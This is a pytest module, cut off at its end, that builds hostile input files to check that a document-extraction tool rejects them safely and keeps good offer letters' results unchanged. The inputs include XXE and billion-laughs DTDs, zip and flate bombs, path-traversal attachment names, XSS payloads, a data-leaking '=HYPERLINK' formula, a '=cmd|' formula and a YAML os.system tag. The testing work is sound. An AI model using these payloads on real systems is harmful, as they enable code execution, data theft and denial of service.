"""The bad-input catalogue in one batch: every hostile document costs only itself.

Source: the bad-input catalogue in tests/CATALOGUE.md, rule E0: the document is recorded with
its reason; the batch continues; nothing else is lost: other documents' values and the
previous output files are untouched.

The single-document tests (test_hostile_pdf.py, _docx, _email, _text, _files, _schema,
test_store.py) assert each entry's status or message.  This module adds the second half:

* one batch folder holds the four good offer letters of demo_docs/offer_letter (txt, docx,
  pdf, html) and one generated hostile file per catalogue entry that is a document, named
  after its ID (``P4-encrypted.pdf`` ...).  The command line runs once over that folder and
  once over the good letters alone, as subprocesses;
* entries that need settings of their own get their own pair of runs: P5 (a wrong
  ``--pdf-password-file``), D2 and P7 (``--time-limit 6 --memory-limit 700``) and S3 (a
  schema with a catastrophic regular expression);
* per ID: (a) the hostile file is listed in documents.csv, table.csv and values.csv with the
  status/reason of its single-document test; (b) the table.csv, values.csv and documents.csv
  rows of the good letters equal those of the good-only run (``seconds`` dropped, the
  formula guard undone); (c) stderr holds exactly one line ``structurize: <name>: <reason>:
  <note>`` for a file that is not ``ok``, none for one that is, and never a traceback;
* entries that cannot be a document (S1, S2, S4: the schema file; C2: the output folder;
  C3: the store) are run over the hostile folder into an output folder that already holds a
  good run's outputs: the run is refused before any document is read (its exit code and one
  line, where a read document would have added a line of its own) and the earlier outputs,
  and for C3 the store file, are byte for byte unchanged.
"""

from __future__ import annotations

import base64
import csv
import io
import os
import random
import secrets
import shutil
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docx
import pytest

from structurize.store.migrations import MIGRATIONS
from structurize.write import unguard

from conftest import DEMO_DOCS, SCHEMAS
from test_hostile_batch import read_csv, rows
from test_hostile_docx import BILLION_LAUGHS, body, para, rebuild
from test_hostile_email import HEAD, multipart, nested, text_part
from test_hostile_pdf import (
    DEEP,
    FONT,
    build_pdf,
    circular_xobjects,
    encrypted_pdf,
    flate_bomb,
    image_only_pdf,
    many_pages,
    one_page,
    page_obj,
    stream,
    text_ops,
)
from test_hostile_schema import _alias_bomb

GOOD_DIR = DEMO_DOCS / "offer_letter"
GOOD = sorted(p.name for p in GOOD_DIR.iterdir() if p.is_file())
OFFER_SCHEMA = SCHEMAS / "offer_letter.yaml"
OUTPUTS = ("table.csv", "values.csv", "documents.csv")
RUN_TIMEOUT = 300  # a hang guard, not a timing assertion
WRONG_PASSWORD = "wrong-guess-77"
XXE_TOKEN = "CANARY-" + secrets.token_hex(8)
E3_ABSOLUTE = Path("/tmp/structurize-catalogue-e3.txt")
EVIL = "a" * 50 + "!"  # the S3 subject string
#: Read-only output folders: chmod works for an ordinary user, root needs a read-only bind mount.
ROOT_USER = hasattr(os, "geteuid") and os.geteuid() == 0


# --- input generators that the single-document tests build inline ----------------------------------------


def letter(name: str = "Ana Ruiz", first: str = "Ana", title: str = "Laboratory Technologist", *, note: str = "") -> str:
    """An offer letter in plain text (cp1252-safe unless the arguments are not)."""
    return (
        "TALLOWBROOK VETERINARY PARTNERS\nPeople & Culture | 1180 Cobb Avenue, Tallowbrook\n\n"
        f"December 9, 2025\n\n{name}\n\nDear {first},\n\nRE: Offer of employment - {title}\n\n"
        f"I am pleased to offer you the role of {title} in our\nin-house diagnostic laboratory at TMH, our main hospital on Cobb Avenue.\n"
        f"You will report to Malak Nasser, Laboratory Supervisor.\n{note}\n"
        "Pay. Your starting base salary will be €61,750 annually, paid bi-weekly.\n\n"
        "Start. Your first day will be Monday, January 5.\n\nSincerely,\n\nRenée Baptiste\n"
    )


def docx_seed() -> bytes:
    """What test_hostile_docx's ``seed`` fixture builds: python-docx, one paragraph."""
    document = docx.Document()
    document.add_paragraph("Employee: Ana Ruiz")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def eml(text: str, charset: bytes = b"utf-8", head: bytes = HEAD, encoding: str = "utf-8") -> bytes:
    return head + b"Content-Type: text/plain; charset=" + charset + b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + text.replace("\n", "\r\n").encode(encoding)


def page_tree_loop() -> bytes:  # test_hostile_pdf P8-page-tree-kids-itself
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


def deep_pdf() -> bytes:  # test_hostile_pdf test_p9_deep_nesting_is_pdf_structure
    return build_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", FONT, page_obj(5, mediabox=DEEP),
         stream(text_ops("Employee: Ana Ruiz"))]
    )


def operator_flood() -> bytes:  # test_hostile_pdf test_p7 (200,000 Tj operators in about 4 KB)
    return one_page(b"BT /F1 12 Tf " + b"1 0 0 1 10 10 Tm (A) Tj " * 200_000 + b"ET", flate=True)


def xxe_docx(canary: Path) -> bytes:  # test_hostile_docx D4-system-entity
    entity = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file://%s">]>' % str(canary).encode()
    return rebuild(docx_seed(), {"word/document.xml": body(para(b"Employee: &x;"), entity)})


def million_paragraphs() -> bytes:  # test_hostile_docx test_d2
    paragraphs = b"".join(para(b"Paragraph %d" % n) for n in range(1_000_000))
    return rebuild(docx_seed(), {"word/document.xml": body(paragraphs)})


def huge_attachment() -> bytes:
    """E4 over the default 25 MB part cap (test_e4 lowers the cap; a CLI run cannot)."""
    blob = base64.b64encode(bytes(26 << 20))
    blob = b"\r\n".join(blob[i : i + 76] for i in range(0, len(blob), 76))
    return multipart([
        text_part(letter().encode()),
        b'Content-Type: application/pdf\r\nContent-Disposition: attachment; filename="scan.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + blob + b"\r\n",
    ])


def traversal_attachments() -> bytes:  # test_hostile_email E3 rows, in one message
    payload = base64.b64encode(b"echo owned\n")
    parts = [text_part(letter().encode())]
    for disposition in (b"attachment; filename*=utf-8''..%2F..%2F.bashrc", b'attachment; filename="' + str(E3_ABSOLUTE).encode() + b'"',
                        b'attachment; filename="CON"'):
        parts.append(b"Content-Type: application/octet-stream\r\nContent-Disposition: " + disposition
                     + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + payload + b"\r\n")
    return multipart(parts)


T6_PAYLOADS = ("<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</textarea>", "{{7*7}}", "javascript:alert(1)")


def xss_html() -> bytes:
    """T6 (test_hostile_text's html variant): a live <script>, and each payload (escaped in the page, so it is
    text) right after a value, so that the value's snippet cell carries it."""

    def esc(text: str) -> str:
        return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")

    img, svg, textarea, template, js = map(esc, T6_PAYLOADS)
    return (
        "<html><head><title>Offer</title></head><body><script>document.title='T6-SCRIPT-TEXT'</script>"
        f"<p>December 9, 2025 {template}</p><p>Dear Ana Ruiz, {img}</p>"
        f"<p>You will work at TMH. {svg}</p><p>You will report to Malak Nasser. {js} {textarea}</p></body></html>"
    ).encode()


T10_PAYLOAD = '=HYPERLINK("http://x/?"&A1,"click")'


def formula_text() -> bytes:
    """T10: a formula just before the letter's date, so that the date's snippet cell starts with it."""
    return (T10_PAYLOAD + "\n" + letter().split("\n", 3)[3]).encode()


def controls_eml() -> bytes:
    """T11 (test_t11_nul_and_surrogates_in_documents_end_to_end): NUL, ESC and BEL in a message body, next to
    the candidate's name so that its snippet cell would carry them."""
    return eml(letter(first="Ana, \x00\x1b[2J\x07 (a\x00b)"))


def nested_letter(depth: int) -> bytes:
    """E5: test_hostile_email's ``nested`` with the offer letter as the part before the limit."""
    return nested(depth).replace(b"Employee: Ana Ruiz", letter().replace("\n", "\r\n").encode())


T9_NAME = "Ana\u200b Ruiz\u202e"


def unicode_controls_text() -> bytes:
    """T9: a zero-width space and a right-to-left override in the name, a zero-width space in the title,
    and the signer's name in NFD ("Rene" + U+0301 + "e")."""
    return letter(T9_NAME, "Ana", title="Lab\u200bTechnologist").replace("Renée", "Rene\u0301e").encode()


def build_f4(path: Path) -> None:
    path.write_text("Line of a memo that someone is still writing.\n" * 40_000, encoding="utf-8")


def build_fifo(path: Path) -> None:
    os.mkfifo(path)


# --- the catalogue rows --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    """One hostile document: where it goes, how to make it, what its single-document test expects."""

    id: str
    name: str | bytes  # path under the batch folder (bytes for names that are not UTF-8)
    make: Callable[[Path], None]
    status: tuple[str, ...]  # allowed statuses (documents.csv)
    reason: tuple[str, ...]  # allowed reasons ("" for ok)
    words: str = ""  # in the note (and so in the stderr line)
    warning: str = ""  # in documents.csv warnings
    shown: str = ""  # the document's name in the outputs, if not ``name``
    batch: str = "main"
    marks: tuple = ()

    @property
    def source(self) -> str:
        return self.shown or (self.name if isinstance(self.name, str) else self.name.decode())


def data(make: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(make())


FAILED = ("failed",)
OK = ("ok",)
NO_FIFO = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="os.mkfifo is not available on this platform")

ENTRIES = [
    Entry("P1", "P1-zero-bytes.pdf", data(lambda: b""), FAILED, ("empty_file",), "the file is empty"),
    Entry("P2", "P2-cut-in-half.pdf", data(lambda: (lambda d: d[: len(d) // 2])(one_page(text_ops("Employee: Ana Ruiz")))),
          FAILED, ("pdf_unreadable",), "truncated"),
    Entry("P3", "P3-html-named.pdf", data(lambda: b"<!DOCTYPE html><html><body>Employee: Ana Ruiz</body></html>"), FAILED, ("wrong_type",), "looks like html"),
    Entry("P4", "P4-encrypted.pdf", data(lambda: encrypted_pdf("s3cret-pw", "Employee: Ana Ruiz")), ("needs_password",), ("encrypted",), "password"),
    Entry("P5", "P5-wrong-password.pdf", data(lambda: encrypted_pdf("s3cret-pw", "Employee: Ana Ruiz")), ("needs_password",), ("wrong_password",),
          "incorrect password", batch="password"),
    Entry("P6", "P6-flate-bomb.pdf", data(lambda: flate_bomb(256)), FAILED, ("stream_too_large", "memory_limit")),
    Entry("P7", "P7-operator-flood.pdf", data(operator_flood), FAILED, ("too_many_chars", "timeout"), batch="limits"),
    Entry("P8-xobjects", "P8-circular-xobjects.pdf", data(circular_xobjects), OK, ("",), warning="circular_xobject"),
    Entry("P8-page-tree", "P8-page-tree-loop.pdf", data(page_tree_loop), FAILED, ("pdf_structure",)),
    Entry("P9", "P9-deep-nesting.pdf", data(deep_pdf), FAILED, ("pdf_structure",), "recursion"),
    Entry("P10", "P10-100k-pages.pdf", data(lambda: many_pages(100_000)), FAILED, ("too_many_pages",), "2000"),
    Entry("P11", "P11-image-only.pdf", data(image_only_pdf), ("no_text_layer",), ("no_text_layer",)),
    Entry("D1", "D1-zip-bomb.docx", data(lambda: rebuild(docx_seed(), {"word/document.xml": b"0" * (8 << 20)})), FAILED, ("zip_limits",), "inflates"),
    Entry("D2", "D2-million-paragraphs.docx", data(million_paragraphs), ("ok", "failed"), ("", "timeout", "memory_limit"), batch="limits"),
    Entry("D3", "D3-billion-laughs.docx", data(lambda: rebuild(docx_seed(), {"word/document.xml": body(para(b"&b;"), BILLION_LAUGHS)})),
          FAILED, ("dtd_in_ooxml",), "DTD"),
    Entry("D4", "D4-xxe.docx", lambda path: path.write_bytes(xxe_docx(path.parent.parent / "canary.txt")), FAILED, ("dtd_in_ooxml",), "DTD"),
    Entry("D5", "D5-truncated.docx", data(lambda: docx_seed()[:1000]), FAILED, ("not_a_zip",)),
    Entry("E1", "E1-unknown-charset.eml", data(lambda: eml(letter("José Núñez", "José"), b'"x-bogus"', encoding="cp1252")), OK, ("",),
          warning="unknown_charset"),
    Entry("E2", "E2-bad-encoded-words.eml",
          data(lambda: eml(letter(), head=b"From: =?x-unknown?Q?Jos=E9?= <jose@example.org>\r\nSubject: =?utf-8?B?bad!!?= request\r\n"
                                          + b"".join(line + b"\r\n" for line in HEAD.split(b"\r\n") if line and not line.startswith((b"From:", b"Subject:"))))),
          OK, ("",), warning="header_decode"),
    Entry("E3", "E3-attachment-names.eml", data(traversal_attachments), OK, ("",)),
    Entry("E4", "E4-huge-attachment.eml", data(huge_attachment), OK, ("",), warning="attachment_skipped"),
    Entry("E5", "E5-1000-deep-mime.eml", data(lambda: nested_letter(1000)), ("partial",), ("mime_limits",), "nesting", warning="mime_limits"),
    Entry("T1", "T1-cp1252.txt", data(lambda: letter("Hélène Müller", "Hélène").encode("cp1252")), OK, ("",), warning="encoding_guessed"),
    Entry("T6", "T6-xss.html", data(xss_html), OK, ("",)),
    Entry("T9", "T9-unicode-controls.txt", data(unicode_controls_text), OK, ("",),
          warning="unicode_controls"),
    Entry("T10", "T10-formula.txt", data(formula_text), OK, ("",)),
    Entry("T11", "T11-nul-and-controls.eml", data(controls_eml), OK, ("",)),
    Entry("F2", "F2-fifo.txt", build_fifo, FAILED, ("not_regular_file",), "a named pipe (FIFO), not a regular file; not opened", marks=(NO_FIFO,)),
    Entry("F4", "F4-growing.txt", build_f4, FAILED, ("changed_during_read",)),
    Entry("F5-controls", b"F5-evil\nname\x1b[2J\x1b]0;pwned\x07.txt", lambda path: path.write_bytes(b""), FAILED, ("empty_file",),
          "the file is empty", shown="F5-evil\\nname\\x1b[2J\\x1b]0;pwned\\x07.txt"),
    Entry("F5-invalid-utf8", b"F5-bad\xff\xfe.txt", lambda path: path.write_bytes(b""), FAILED, ("empty_file",), "the file is empty",
          shown="F5-bad\\xff\\xfe.txt"),
    Entry("F5-leading-dash", "F5-dash/-rf.txt", lambda path: path.write_bytes(b""), FAILED, ("empty_file",), "the file is empty"),
    Entry("S3", "S3-catastrophic-regex.txt", data(lambda: letter(note=f"Reference code: {EVIL}").encode()), OK, ("",), batch="regex"),
]

#: S3: a field whose constraint pattern is catastrophic for backtracking matchers
REGEX_FIELD = (
    "\n  - name: reference_code\n    title: Reference code\n    type: string\n"
    "    constraints:\n      pattern: '(a|aa)+$'\n    extract:\n      as: text\n      cues: [\"reference code\"]\n"
)
#: batch name -> extra command-line arguments ("{root}": the module's folder; the schema is offer_letter.yaml unless given)
BATCHES: dict[str, list[str]] = {
    "main": [],
    "password": ["--pdf-password-file", "{root}/password.txt"],
    "limits": ["--time-limit", "6", "--memory-limit", "700"],
    "regex": ["--schema", "{root}/regex-schema.yaml"],
}


def entry_params(entries: list[Entry] = ENTRIES) -> list:
    return [pytest.param(entry, id=entry.id, marks=entry.marks) for entry in entries]


# --- running the command ---------------------------------------------------------------------------------------


def clean_env() -> dict[str, str]:
    """No STRUCTURIZE_* setting of the caller (a PDF password in the environment would change P4)."""
    env = {key: value for key, value in os.environ.items() if not key.startswith("STRUCTURIZE_")}
    env["PYTHONUNBUFFERED"] = "1"
    return env


@dataclass
class Ran:
    returncode: int
    stdout: str
    stderr: str


def extract(folder: Path, out: Path, *extra: str, cwd: Path | None = None) -> Ran:
    """``structurize extract`` as a subprocess; the schema is offer_letter.yaml unless ``extra`` names one."""
    args = list(extra) if "--schema" in extra else ["--schema", str(OFFER_SCHEMA), *extra]
    command = [sys.executable, "-m", "structurize", "extract", str(folder), "--out", str(out), "--no-ner", "--quiet", "--workers", "2", *args]
    try:
        done = subprocess.run(command, capture_output=True, text=True, errors="replace", timeout=RUN_TIMEOUT, env=clean_env(), cwd=cwd)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the run over {folder.name} did not finish in {RUN_TIMEOUT} s (a hung batch)")
    return Ran(done.returncode, done.stdout, done.stderr)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def tree(folder: Path, skip: tuple[str, ...]) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if not str(p.relative_to(folder)).startswith(skip)}


class Writer:
    """F4: a background thread appending to a file while the batch runs (catalogue F4, tests/CATALOGUE.md)."""

    def __init__(self, path: Path) -> None:
        self.path, self.stop = path, threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self) -> None:
        with self.path.open("ab", buffering=0) as handle:
            while not self.stop.is_set():
                handle.write(b"more\n")
                time.sleep(0.0005)

    def __enter__(self) -> Writer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop.set()
        self.thread.join()


@pytest.fixture(scope="module")
def batches(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """For every batch: the hostile run and the good-only run with the same settings."""
    root = tmp_path_factory.mktemp("catalogue")
    (root / "canary.txt").write_text(XXE_TOKEN, encoding="utf-8")
    (root / "password.txt").write_text(WRONG_PASSWORD + "\n", encoding="utf-8")
    (root / "regex-schema.yaml").write_text(OFFER_SCHEMA.read_text(encoding="utf-8").rstrip("\n") + "\n" + REGEX_FIELD, encoding="utf-8")
    work = root / "cwd" / "a" / "b"  # E3: "../../.bashrc" from here would land in root/cwd
    work.mkdir(parents=True)
    E3_ABSOLUTE.unlink(missing_ok=True)
    found: dict[str, Any] = {"root": root}
    for name, extra in BATCHES.items():
        args = [arg.format(root=root) for arg in extra]
        good, mixed = root / f"{name}-good", root / f"{name}-mixed"
        shutil.copytree(GOOD_DIR, good)
        shutil.copytree(GOOD_DIR, mixed)
        for entry in ENTRIES:
            if entry.batch != name or (entry.id == "F2" and not hasattr(os, "mkfifo")):
                continue
            path = mixed / os.fsdecode(entry.name)  # bytes names: surrogateescape, so the raw bytes on disk
            path.parent.mkdir(parents=True, exist_ok=True)
            entry.make(path)
        found[f"{name}-good"] = extract(good, root / f"out-{name}-good", *args, cwd=work)
        before = tree(root, ("out-", "cwd"))
        if name == "main":
            with Writer(mixed / "F4-growing.txt"):
                found[f"{name}-mixed"] = extract(mixed, root / f"out-{name}-mixed", *args, cwd=work)
        else:
            found[f"{name}-mixed"] = extract(mixed, root / f"out-{name}-mixed", *args, cwd=work)
        found[f"{name}-tree"] = (before, tree(root, ("out-", "cwd")))
    found["cwd"] = sorted(str(p.relative_to(root / "cwd")) for p in (root / "cwd").rglob("*"))
    return found


def outputs(batches: dict[str, Any], entry: Entry, kind: str = "mixed") -> Path:
    return batches["root"] / f"out-{entry.batch}-{kind}"


def documents(batches: dict[str, Any], entry: Entry) -> dict[str, dict[str, str]]:
    return {row["document"]: row for row in rows(outputs(batches, entry), "documents.csv")}


# --- (a) the hostile file's own row ---------------------------------------------------------------------------


def test_every_catalogue_document_entry_is_in_a_batch() -> None:
    ids = {entry.id.split("-")[0] for entry in ENTRIES}
    expected = {*(f"P{i}" for i in range(1, 12)), *(f"D{i}" for i in range(1, 6)), *(f"E{i}" for i in range(1, 6)),
                "T1", "T6", "T9", "T10", "T11", "F2", "F4", "F5", "S3"}
    assert ids == expected
    assert len(ids | {"S1", "S2", "S4", "C2", "C3"}) == 35  # with the refused runs below: the 35 IDs
    for entry in ENTRIES:
        name = entry.name if isinstance(entry.name, str) else entry.name.decode("utf-8", "replace")
        assert name.startswith(entry.id.split("-")[0] + "-")


@pytest.mark.parametrize("entry", entry_params())
def test_a_hostile_document_gets_its_status_and_reason(batches: dict[str, Any], entry: Entry) -> None:
    row = documents(batches, entry).get(entry.source)
    assert row is not None, f"{entry.source} is not in documents.csv (lost)"
    assert row["status"] in entry.status and row["reason"] in entry.reason, row
    assert (row["status"] == "ok") == (row["reason"] == ""), row  # a reason exactly when it is not ok
    assert entry.words in row["note"], row  # P4: never an empty message (pdfminer's str(e) is '')
    if entry.warning:
        assert entry.warning in row["warnings"].split(), row
    out = outputs(batches, entry)
    assert entry.source in {r["document"] for r in rows(out, "table.csv")}  # still a row of the table
    values = [r for r in rows(out, "values.csv") if r["document"] == entry.source]
    assert values  # one row per field
    if row["status"] in ("failed", "needs_password", "no_text_layer"):
        # P11: all fields "missing", never empty strings with a confidence
        assert all(r["status"] == "missing" and r["value"] == "" and float(r["confidence"]) == 0 for r in values), values


def _value(batches: dict[str, Any], entry: Entry, name: str) -> dict[str, str]:
    return next(r for r in rows(outputs(batches, entry), "values.csv") if r["document"] == entry.source and r["field"] == name)


def _all_output_bytes(out: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted(out.iterdir()))


def _own_cells(batches: dict[str, Any], entry: Entry) -> list[str]:
    out = outputs(batches, entry)
    return [cell for name in OUTPUTS for r in rows(out, name) if r["document"] == entry.source for cell in r.values()]


def check_p5(batches: dict[str, Any], entry: Entry) -> None:
    # the password comes from a file and is never shown (OWASP Logging: secrets)
    ran = batches["password-mixed"]
    assert WRONG_PASSWORD not in ran.stdout + ran.stderr
    assert WRONG_PASSWORD.encode() not in _all_output_bytes(outputs(batches, entry))


def check_d4(batches: dict[str, Any], entry: Entry) -> None:
    assert XXE_TOKEN.encode() not in _all_output_bytes(outputs(batches, entry))  # no content of the canary file anywhere
    assert XXE_TOKEN not in batches["main-mixed"].stderr


def check_e1(batches: dict[str, Any], entry: Entry) -> None:
    assert _value(batches, entry, "candidate_name")["value"] == "José Núñez"  # the fallback decoded the name


def check_e2(batches: dict[str, Any], entry: Entry) -> None:
    assert _value(batches, entry, "candidate_name")["value"] == "Ana Ruiz"  # the body is read as usual


def check_e3(batches: dict[str, Any], entry: Entry) -> None:
    before, after = batches["main-tree"]
    assert after == before  # nothing written next to the input or the outputs
    assert batches["cwd"] == ["a", "a/b"]  # nothing written relative to the working folder ("../../.bashrc")
    assert not E3_ABSOLUTE.exists()  # nor at the absolute path the attachment declares
    assert _value(batches, entry, "candidate_name")["value"] == "Ana Ruiz"


def check_e4(batches: dict[str, Any], entry: Entry) -> None:
    assert _value(batches, entry, "candidate_name")["value"] == "Ana Ruiz"  # the body is still processed


def check_e5(batches: dict[str, Any], entry: Entry) -> None:
    assert _value(batches, entry, "candidate_name")["value"] == "Ana Ruiz"  # what came before the limit is read


def check_t1(batches: dict[str, Any], entry: Entry) -> None:
    row = documents(batches, entry)[entry.source]
    assert row["encoding"] == "cp1252"
    assert _value(batches, entry, "candidate_name")["value"] == "Hélène Müller"  # the names are exact


def check_t6(batches: dict[str, Any], entry: Entry) -> None:
    cells = _own_cells(batches, entry)
    for payload in T6_PAYLOADS:  # shown literally (not escaped, not evaluated, not dropped)
        assert any(payload in cell for cell in cells), payload
    texts = [r[column] for r in rows(outputs(batches, entry), "values.csv") if r["document"] == entry.source for column in ("value", "snippet")]
    assert not any("49" in text for text in texts)  # {{7*7}} was not evaluated
    assert b"T6-SCRIPT-TEXT" not in _all_output_bytes(outputs(batches, entry))  # <script> content is not text


def check_t9(batches: dict[str, Any], entry: Entry) -> None:
    assert T9_NAME in _value(batches, entry, "candidate_name")["snippet"]  # kept verbatim for review, not hidden
    assert "Renée Baptiste" in _value(batches, entry, "start_date")["snippet"]  # stored NFC
    for r in rows(outputs(batches, entry), "values.csv"):
        if r["document"] == entry.source and any(ch in r["value"] for ch in "\u200b\u202e"):
            assert r["status"] != "ok", r  # a value never carries a control character silently


def check_t10(batches: dict[str, Any], entry: Entry) -> None:
    out = outputs(batches, entry)
    with (out / "values.csv").open(encoding="utf-8-sig", newline="") as handle:
        raw = [cell for r in csv.DictReader(handle) if r["document"] == entry.source for cell in r.values()]
    starting = [cell for cell in raw if cell.lstrip("'").startswith("=HYPERLINK")]
    assert starting, raw  # the payload starts a cell ...
    assert all(cell.startswith("'=") for cell in starting)  # ... which gets the formula guard
    assert any(unguard(cell).startswith(T10_PAYLOAD) for cell in starting)  # and reads back unchanged


def check_t11(batches: dict[str, Any], entry: Entry) -> None:
    out = outputs(batches, entry)
    for produced in out.iterdir():
        text = produced.read_bytes().decode("utf-8")  # valid UTF-8
        assert "\x00" not in text and "\x1b" not in text and "\x07" not in text, produced.name
    name = _value(batches, entry, "candidate_name")
    assert name["value"] == "Ana Ruiz"
    assert "\ufffd[2J" in name["snippet"]  # the escape character is shown as U+FFFD, the rest of the cell kept


def check_s3(batches: dict[str, Any], entry: Entry) -> None:
    code = _value(batches, entry, "reference_code")
    assert code["status"] == "invalid" and code["reason"].startswith("validation_timeout"), code  # a value, not a hung worker
    assert _value(batches, entry, "candidate_name")["value"] == "Ana Ruiz"


def check_f5(batches: dict[str, Any], entry: Entry) -> None:
    stderr = batches["main-mixed"].stderr
    for control in ("\x1b", "\x07", "\r"):
        assert control not in stderr  # no terminal escape reaches the terminal (CWE-117)


SPECIFIC: dict[str, Callable[[dict[str, Any], Entry], None]] = {
    "P5": check_p5, "D4": check_d4, "E1": check_e1, "E2": check_e2, "E3": check_e3, "E4": check_e4, "E5": check_e5,
    "T1": check_t1, "T6": check_t6, "T9": check_t9, "T10": check_t10, "T11": check_t11, "S3": check_s3,
    "F5-controls": check_f5, "F5-invalid-utf8": check_f5,
}


@pytest.mark.parametrize("entry", entry_params([entry for entry in ENTRIES if entry.id in SPECIFIC]))
def test_a_entry_specific_expectation(batches: dict[str, Any], entry: Entry) -> None:
    SPECIFIC[entry.id](batches, entry)


# --- (b) the good documents' values are unchanged -----------------------------------------------------------------


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("entry", entry_params())
def test_b_good_documents_get_exactly_the_same_rows(batches: dict[str, Any], entry: Entry, output: str) -> None:
    alone = rows(outputs(batches, entry, "good"), output)
    among_bad = rows(outputs(batches, entry), output, set(GOOD))
    assert alone and {row["document"] for row in alone} == set(GOOD)
    assert among_bad == alone


# --- (c) one clear stderr line per document that is not ok -------------------------------------------------------


@pytest.mark.parametrize("entry", entry_params())
def test_c_one_stderr_line_for_a_document_that_is_not_ok(batches: dict[str, Any], entry: Entry) -> None:
    ran = batches[f"{entry.batch}-mixed"]
    assert "Traceback" not in ran.stderr
    row = documents(batches, entry)[entry.source]
    mine = [line for line in ran.stderr.splitlines() if line.startswith(f"structurize: {entry.source}: ")]
    if row["status"] == "ok":
        assert mine == []
    else:
        prefix = f"structurize: {entry.source}: {row['reason'] or row['status']}: "
        assert len(mine) == 1 and mine[0].startswith(prefix) and len(mine[0]) > len(prefix) + 5, ran.stderr
        if row["note"]:
            assert mine[0] == prefix + row["note"]  # the note of documents.csv, nothing of the document's content


@pytest.mark.parametrize("batch", list(BATCHES))
def test_c_stderr_holds_only_the_documents_that_are_not_ok(batches: dict[str, Any], batch: str) -> None:
    good, mixed = batches[f"{batch}-good"], batches[f"{batch}-mixed"]
    assert (good.returncode, good.stderr) == (0, "")
    out = batches["root"] / f"out-{batch}-mixed"
    not_ok = [row for row in rows(out, "documents.csv") if row["status"] != "ok"]
    assert {row["document"] for row in not_ok} <= {entry.source for entry in ENTRIES}  # no good letter among them
    assert len(mixed.stderr.splitlines()) == len(not_ok), mixed.stderr
    assert mixed.returncode == (3 if any(row["status"] in ("failed", "needs_password", "no_text_layer") for row in not_ok) else 0)
    listed = {row["document"] for row in rows(out, "documents.csv")}
    assert listed == set(GOOD) | {e.source for e in ENTRIES if e.batch == batch and not (e.id == "F2" and not hasattr(os, "mkfifo"))}


# --- runs that are refused before any document is read: S1, S2, S4, C2, C3 ----------------------------------------


@dataclass(frozen=True)
class Refusal:
    """A run that must be refused: ``prepare(folder)`` sets it up and yields its extra arguments."""

    id: str
    prepare: Callable[[Path], Any]  # a context manager factory
    exit: int
    words: str
    store: bool = False  # the row uses --store (C3)


def _schema_row(text: str, name: str) -> Callable[[Path], Any]:
    @contextmanager
    def prepare(folder: Path):  # type: ignore[no-untyped-def]
        schema = folder / name
        schema.write_text(text.format(canary=folder / "CANARY"), encoding="utf-8")
        yield ["--schema", str(schema)]

    return prepare


@contextmanager
def _read_only_out(folder: Path):  # type: ignore[no-untyped-def]
    out = folder / "out"
    if not ROOT_USER:
        out.chmod(0o555)
        try:
            yield []
        finally:
            out.chmod(0o755)
        return
    bound = subprocess.run(["mount", "--bind", str(out), str(out)], capture_output=True, timeout=30)
    if bound.returncode != 0:
        raise Skip(f"root cannot make a read-only bind mount here ({bound.stderr.decode(errors='replace').strip()})")
    try:
        ro = subprocess.run(["mount", "-o", "remount,ro,bind", str(out)], capture_output=True, timeout=30)
        if ro.returncode != 0:
            raise Skip(f"cannot remount read-only ({ro.stderr.decode(errors='replace').strip()})")
        yield []
    finally:
        subprocess.run(["umount", str(out)], capture_output=True, timeout=30)


def _damaged_store(kind: str) -> Callable[[Path], Any]:
    @contextmanager
    def prepare(folder: Path):  # type: ignore[no-untyped-def]
        path = folder / "store" / "store.sqlite"
        if kind == "junk":  # test_store.corrupt("junk"): random bytes, as long as the store
            path.write_bytes(random.Random(12).randbytes(path.stat().st_size))
        else:  # test_store.corrupt("newer_version"): a valid store from a later version
            db = sqlite3.connect(str(path))
            db.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")
            db.commit()
            db.close()
        yield ["--store", str(path)]

    return prepare


class Skip(Exception):
    """The environment cannot set this row up (recorded, then skipped by the test)."""


S1_TAG = 'name: s1\nfields:\n  - name: x\n    type: !!python/object/apply:os.system ["touch {canary}"]\n'
REFUSALS = [
    Refusal("S1", _schema_row(S1_TAG, "S1-yaml-tag.yaml"), 2, "unsupported YAML tag"),
    Refusal("S2", _schema_row(_alias_bomb().replace("{", "{{").replace("}", "}}"), "S2-alias-bomb.yaml"), 2, "aliases expand to too many nodes"),
    Refusal("S4-duplicate", _schema_row('fields:\n  - name: "Salary"\n  - name: "salary "\n', "S4-duplicate-names.yaml"), 2,
            "duplicate field name 'salary ' (same as fields[0])"),
    Refusal("S4-formula", _schema_row('fields:\n  - name: "=cmd|\' /C calc\'!A0"\n', "S4-formula-name.yaml"), 2,
            "which spreadsheets read as a formula"),
    Refusal("C2", _read_only_out, 2, "output folder is not writable"),
    Refusal("C3-junk", _damaged_store("junk"), 1, "not a structurize store", store=True),
    Refusal("C3-newer", _damaged_store("newer"), 1, "written by a newer structurize", store=True),
]


@pytest.fixture(scope="module")
def refusals(batches: dict[str, Any], tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
